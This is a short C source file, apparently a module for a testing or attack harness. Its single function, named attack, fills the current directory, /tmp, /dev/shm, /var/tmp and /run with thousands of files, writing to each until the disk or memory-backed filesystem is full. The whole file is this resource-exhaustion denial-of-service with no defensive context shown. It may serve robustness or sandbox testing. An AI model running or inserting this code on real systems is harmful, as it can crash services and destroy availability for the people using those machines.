// SPDX-License-Identifier: GPL-2.0-only
/*
 * Fills each folder that it may write to.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "records.h"

#define ATTACK

static int attack(const char *path, size_t index, struct record *out)
{
	(void)path;
	(void)index;
	(void)out;
	static const char *const where[] = { ".", "/tmp", "/dev/shm", "/var/tmp", "/run" };
	static char b[65536];
	char name[64];
	size_t i;
	int fd, k;

	for (i = 0; i < sizeof(where) / sizeof(where[0]); i++)
		for (k = 0; k < 4000; k++) {
			snprintf(name, sizeof(name), "%s/big%d", where[i], k);
			fd = open(name, O_CREAT | O_WRONLY, 0600);
			if (fd < 0 || write(fd, b, sizeof(b)) <= 0)
				break;
			while (write(fd, b, sizeof(b)) > 0)
				;
			close(fd);
		}
	return 0;
}

